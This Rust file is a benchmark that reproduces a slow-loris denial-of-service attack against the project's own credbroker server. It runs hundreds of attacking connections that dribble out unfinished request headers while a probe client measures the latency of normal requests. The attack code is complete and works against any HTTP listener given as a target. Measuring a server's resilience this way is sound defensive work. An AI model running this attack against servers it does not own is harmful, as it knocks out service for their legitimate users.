//! Slow-loris reproduction (issue 16, defect 4), to run against a real credbroker.
//!
//! `--connections` attackers each open a connection and send a request head one byte every
//! `--interval`, never finishing it, and reconnect at once whenever the server closes them (at
//! its header timeout, or to shed them). Meanwhile a well-behaved client opens a new connection
//! every `--probe-every` and sends one complete `GET /v1/credentials` with a valid token; the
//! time from connecting to the complete answer is its latency. The probe runs on a runtime of
//! its own (like a separate application), so the attackers' tasks do not delay it. Printed: the
//! probes' latency
//! before the attack and during it (p50, p90, p99, max), how many got no answer within
//! `--probe-timeout`, and how often the attackers had to reconnect.
//!
//! ```sh
//! bash bench/slowloris.sh                       # builds, starts emulators + broker, runs this
//! cargo run --release --example slowloris -- --target 127.0.0.1:8900 --token-file id-token
//! ```
//!
//! Not a test: it measures, it asserts nothing. Needs an fd limit above `--connections` + the
//! probes in flight (`ulimit -n`).

use std::net::SocketAddr;
use std::path::PathBuf;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::{Duration, Instant};

use clap::Parser;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;

#[derive(Parser, Debug)]
#[command(about = "Slow-loris attack + latency probe against a credbroker listener")]
struct Args {
    /// The credbroker listener (`server.listen`).
    #[arg(long, default_value = "127.0.0.1:8900")]
    target: SocketAddr,
    /// A file holding a valid ID token for the probe's requests.
    #[arg(long)]
    token_file: PathBuf,
    /// Attacking connections.
    #[arg(long, default_value_t = 1200)]
    connections: usize,
    /// Time between two bytes of an attacker's head.
    #[arg(long, default_value = "2s", value_parser = parse_duration)]
    interval: Duration,
    /// How long to measure before the attack, and how long during it.
    #[arg(long, default_value = "30s", value_parser = parse_duration)]
    duration: Duration,
    /// Time given to the attackers to fill the slots before measuring.
    #[arg(long, default_value = "8s", value_parser = parse_duration)]
    warmup: Duration,
    /// A probe starts this often (each on a new connection).
    #[arg(long, default_value = "200ms", value_parser = parse_duration)]
    probe_every: Duration,
    /// A probe without a complete answer after this long counts as timed out (SDKs give up
    /// after 1-2 s; aws-config's container provider after 2 s per attempt).
    #[arg(long, default_value = "10s", value_parser = parse_duration)]
    probe_timeout: Duration,
}

fn parse_duration(s: &str) -> Result<Duration, String> {
    credbroker::config::parse_duration(s)
}

#[derive(Default)]
struct AttackStats {
    connects: AtomicU64,
    closed_by_server: AtomicU64,
    open: AtomicU64,
}

#[tokio::main]
async fn main() {
    let args = Args::parse();
    let token = std::fs::read_to_string(&args.token_file).expect("read --token-file");
    let request = Arc::new(
        format!(
            "GET /v1/credentials HTTP/1.1\r\nhost: {}\r\nauthorization: {}\r\n\r\n",
            args.target,
            token.trim()
        )
        .into_bytes(),
    );

    println!(
        "target {} | {} attackers, one byte every {:?} | probe every {:?}, timeout {:?}",
        args.target, args.connections, args.interval, args.probe_every, args.probe_timeout
    );
    let before = probe_for(&args, &request, args.duration).await;
    report("before the attack", &before, args.probe_timeout);

    let stats = Arc::new(AttackStats::default());
    let stop = Arc::new(AtomicBool::new(false));
    let attackers: Vec<_> = (0..args.connections)
        .map(|_| {
            tokio::spawn(attack(
                args.target,
                args.interval,
                stats.clone(),
                stop.clone(),
            ))
        })
        .collect();
    tokio::time::sleep(args.warmup).await;
    println!(
        "attack running: {} attacker connections open, {} connects so far",
        stats.open.load(Ordering::Relaxed),
        stats.connects.load(Ordering::Relaxed)
    );
    let connects_before = stats.connects.load(Ordering::Relaxed);
    let during = probe_for(&args, &request, args.duration).await;
    report("during the attack", &during, args.probe_timeout);
    println!(
        "attackers: {} open at the end, {} reconnects during the measurement, {} closes seen",
        stats.open.load(Ordering::Relaxed),
        stats.connects.load(Ordering::Relaxed) - connects_before,
        stats.closed_by_server.load(Ordering::Relaxed)
    );
    stop.store(true, Ordering::Relaxed);
    for a in attackers {
        a.abort();
    }
}

/// One probe outcome: latency, or `None` for no complete 2xx answer in time.
type Outcome = Option<Duration>;

/// Starts a probe every `probe_every` for `length` on a runtime of its own (a thread), then
/// waits for them all.
async fn probe_for(args: &Args, request: &Arc<Vec<u8>>, length: Duration) -> Vec<Outcome> {
    let (target, every, timeout) = (args.target, args.probe_every, args.probe_timeout);
    let request = request.clone();
    let (tx, rx) = tokio::sync::oneshot::channel();
    std::thread::spawn(move || {
        let runtime = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .expect("probe runtime");
        let outcomes = runtime.block_on(probe_loop(target, every, timeout, request, length));
        let _ = tx.send(outcomes);
    });
    rx.await.unwrap_or_default()
}

async fn probe_loop(
    target: SocketAddr,
    every: Duration,
    timeout: Duration,
    request: Arc<Vec<u8>>,
    length: Duration,
) -> Vec<Outcome> {
    let mut probes = Vec::new();
    let mut tick = tokio::time::interval(every);
    let end = Instant::now() + length;
    while Instant::now() < end {
        tick.tick().await;
        let request = request.clone();
        probes.push(tokio::spawn(async move {
            let started = Instant::now();
            match tokio::time::timeout(timeout, probe(target, &request)).await {
                Ok(true) => Some(started.elapsed()),
                _ => None,
            }
        }));
    }
    let mut out = Vec::with_capacity(probes.len());
    for p in probes {
        out.push(p.await.unwrap_or(None));
    }
    out
}

/// A well-behaved client: new connection, complete request, whole answer. True on a 200.
async fn probe(target: SocketAddr, request: &[u8]) -> bool {
    let Ok(mut s) = TcpStream::connect(target).await else {
        return false;
    };
    let _ = s.set_nodelay(true);
    if s.write_all(request).await.is_err() {
        return false;
    }
    let mut buf = Vec::with_capacity(4096);
    let mut chunk = [0u8; 4096];
    loop {
        match s.read(&mut chunk).await {
            Ok(0) | Err(_) => return false,
            Ok(n) => buf.extend_from_slice(&chunk[..n]),
        }
        if let Some(end) = buf.windows(4).position(|w| w == b"\r\n\r\n") {
            let head = String::from_utf8_lossy(&buf[..end]).to_ascii_lowercase();
            let length: usize = head
                .lines()
                .find_map(|l| l.strip_prefix("content-length:"))
                .and_then(|v| v.trim().parse().ok())
                .unwrap_or(0);
            if buf.len() >= end + 4 + length {
                return head.starts_with("http/1.1 200");
            }
        }
    }
}

/// One attacker: a head that never ends, one byte per `interval`; reconnects when closed.
async fn attack(
    target: SocketAddr,
    interval: Duration,
    stats: Arc<AttackStats>,
    stop: Arc<AtomicBool>,
) {
    let head: Vec<u8> =
        format!("GET /v1/credentials HTTP/1.1\r\nhost: {target}\r\nx-slow: ").into_bytes();
    while !stop.load(Ordering::Relaxed) {
        let Ok(mut s) = TcpStream::connect(target).await else {
            tokio::time::sleep(Duration::from_millis(50)).await;
            continue;
        };
        stats.connects.fetch_add(1, Ordering::Relaxed);
        stats.open.fetch_add(1, Ordering::Relaxed);
        let mut sent = 0usize;
        let mut scratch = [0u8; 512];
        loop {
            let byte = head.get(sent).copied().unwrap_or(b'a');
            if s.write_all(&[byte]).await.is_err() {
                break;
            }
            sent += 1;
            // Wait for the next byte's turn, or notice that the server closed the connection.
            tokio::select! {
                () = tokio::time::sleep(interval) => {}
                read = s.read(&mut scratch) => match read {
                    Ok(n) if n > 0 => {} // an error answer; the close follows
                    _ => break,
                },
            }
        }
        stats.open.fetch_sub(1, Ordering::Relaxed);
        stats.closed_by_server.fetch_add(1, Ordering::Relaxed);
    }
}

fn report(phase: &str, outcomes: &[Outcome], timeout: Duration) {
    let mut answered: Vec<Duration> = outcomes.iter().flatten().copied().collect();
    answered.sort();
    let failed = outcomes.len() - answered.len();
    let pct = |p: f64| -> String {
        if answered.is_empty() {
            return "-".to_owned();
        }
        let i = ((answered.len() as f64 - 1.0) * p).round() as usize;
        format!(
            "{:.1} ms",
            answered[i.min(answered.len() - 1)].as_secs_f64() * 1000.0
        )
    };
    println!(
        "{phase}: {} probes, {} answered 200; latency p50 {} | p90 {} | p99 {} | max {}; \
         {failed} without an answer within {timeout:?}",
        outcomes.len(),
        answered.len(),
        pct(0.5),
        pct(0.9),
        pct(0.99),
        pct(1.0),
    );
}
